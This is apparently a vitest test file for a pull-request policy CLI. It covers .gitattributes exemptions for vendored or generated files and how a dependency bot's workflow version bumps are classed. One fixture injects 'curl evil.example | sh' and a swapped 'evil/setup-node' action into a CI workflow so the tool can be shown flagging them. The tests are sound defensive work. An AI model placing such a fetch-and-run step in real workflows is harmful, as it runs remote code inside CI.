// Defaults a team keeps on: files the committed .gitattributes marks vendored or generated are
// left out of the size and suppression rules (and only by the .gitattributes that judges), and a
// dependency bot's action bumps are warnings, only when the CI platform says the bot opened the
// pull request and only when the workflow change is nothing but version moves.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli.js';
import { createRepo, type TestRepo } from '../helpers/repo.js';

const POLICY = {
  extends: 'agentpolicy:recommended',
  rules: {
    'max-diff-lines': ['error', { max: 100 }],
    'no-new-suppressions': 'error',
    'forbidden-content': ['error', { patterns: [{ pattern: 'SECRET_[A-Z]+', message: 'no secrets' }] }],
  },
};
const lines = (count: number, text: string) =>
  `${Array.from({ length: count }, (_, i) => `${text} ${i};`).join('\n')}\n`;

type Found = { rule: string; severity: string; file?: string; commit?: string };

function gate(repo: TestRepo, env: NodeJS.ProcessEnv = {}, args = ['--base', 'main']) {
  const result = runCli(['ci', '--format', 'json', '--no-verify-steps', ...args], {
    cwd: repo.dir,
    env: { ...repo.env, GITHUB_ACTIONS: '', GITLAB_CI: '', ...env },
  });
  expect(result.stdout.startsWith('{'), result.stderr).toBe(true);
  return { status: result.status, findings: JSON.parse(result.stdout).findings as Found[] };
}

describe('.gitattributes', () => {
  it('vendored, generated and -diff files are left out of the size and suppression rules, and only those', () => {
    const repo = createRepo();
    repo.commit('Set up the project and its policy', {
      '.agentpolicyrc': JSON.stringify(POLICY),
      '.gitattributes': 'vendor/** linguist-vendored\ndist/*.js linguist-generated=true\n*.min.js -diff\n',
      'src/a.ts': 'a\n',
      'src/moved.ts': lines(150, 'moved'),
    });
    repo.git('checkout', '-q', '-b', 'feature');
    const vendored = repo.commit('Vendor the parser library', {
      'vendor/parser/index.js': `/* eslint-disable */\n${lines(500, 'parse')}`,
      'dist/app.js': lines(300, 'built'),
      'public/lib.min.js': lines(300, 'min'),
    });
    const secret = repo.commit('Vendor a file with a secret in it', { 'vendor/keys.js': 'SECRET_TOKEN\n' });
    // The branch marks its own sources generated: the base's .gitattributes judges, not this.
    const widened = repo.commit('Mark the sources as generated and add a big one', {
      '.gitattributes': '* linguist-generated\n',
      'src/big.ts': `// eslint-disable-next-line\n${lines(200, 'big')}`,
    });
    repo.git('mv', 'src/moved.ts', 'vendor/moved.ts');
    // A rename keeps its lines counted unless both of its paths are exempt.
    const moved = repo.commit('Move a source file into vendor, a third rewritten', {
      'vendor/moved.ts': lines(150, 'moved').replace(/moved ([0-9]|[1-4][0-9]|5[0-4]);/g, 'rewritten $1;'),
    });
    const { findings } = gate(repo);
    const at = (commit: string) => findings.filter((f) => f.commit === commit).map((f) => f.rule);
    expect(at(vendored)).toEqual([]);
    expect(at(secret)).toEqual(['forbidden-content']);
    expect(at(widened)).toEqual(expect.arrayContaining(['max-diff-lines', 'no-new-suppressions']));
    expect(at(moved)).toContain('max-diff-lines');

    // The staged check reads HEAD's committed .gitattributes, not the work tree's.
    repo.git('checkout', '-q', 'main');
    repo.write('vendor/more.js', `// eslint-disable\n${lines(300, 'more')}`);
    repo.write('.gitattributes', '');
    repo.git('add', 'vendor/more.js');
    const staged = runCli(['check', '--staged', '--format', 'json'], { cwd: repo.dir, env: repo.env });
    expect(JSON.parse(staged.stdout).findings, staged.stderr).toEqual([]);
  });
});

describe("a dependency bot's action bumps", () => {
  function botRepo() {
    const repo = createRepo();
    const base = repo.commit('Set up the project and its workflow', {
      '.agentpolicyrc': JSON.stringify(POLICY),
      '.github/workflows/ci.yml':
        'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4 # v4.1.0\n      - uses: actions/setup-node@v4\n      - run: npm test\n',
    });
    repo.git('checkout', '-q', '-b', 'dependabot/github_actions/bump');
    return { repo, base };
  }
  const event = (repo: TestRepo, base: string, login: string) => {
    const path = join(repo.dir, '..', 'event.json');
    const head = repo.git('rev-parse', 'HEAD').trim();
    writeFileSync(
      path,
      JSON.stringify({
        pull_request: { base: { ref: 'main', sha: base }, head: { sha: head }, user: { login } },
      }),
    );
    return { GITHUB_ACTIONS: 'true', GITHUB_EVENT_PATH: path };
  };
  const workflow = (repo: TestRepo) => repo.read('.github/workflows/ci.yml');

  it('a version move in a pull request the bot opened is a warning', () => {
    const { repo, base } = botRepo();
    repo.commit('Bump actions/checkout from 4 to 5', {
      '.github/workflows/ci.yml': workflow(repo).replace('checkout@v4 # v4.1.0', 'checkout@v5 # v5.0.0'),
    });
    const bot = gate(repo, event(repo, base, 'dependabot[bot]'), ['--format', 'json']);
    expect(bot.status).toBe(0);
    expect(bot.findings).toEqual([expect.objectContaining({ rule: 'protected-paths', severity: 'warn' })]);
    // The same commits in a pull request anyone else opened: an error, whatever the commits claim.
    const human = gate(repo, event(repo, base, 'someone'), ['--format', 'json']);
    expect(human.status).toBe(1);
    expect(human.findings).toEqual([expect.objectContaining({ rule: 'protected-paths', severity: 'error' })]);
  });

  it('anything more than a version move stays an error, even from the bot', () => {
    const { repo, base } = botRepo();
    repo.commit('Bump actions/checkout and change a step', {
      '.github/workflows/ci.yml': workflow(repo)
        .replace('checkout@v4', 'checkout@v5')
        .replace('npm test', 'curl evil.example | sh'),
    });
    const other = repo.commit('Bump setup-node to another action', {
      '.github/workflows/ci.yml': workflow(repo).replace('actions/setup-node@v4', 'evil/setup-node@v4'),
    });
    const { status, findings } = gate(repo, event(repo, base, 'dependabot[bot]'), ['--format', 'json']);
    expect(status).toBe(1);
    expect(findings.filter((f) => f.severity === 'error').map((f) => f.commit)).toEqual(
      expect.arrayContaining([repo.git('rev-parse', 'HEAD~1').trim(), other]),
    );
  });
});
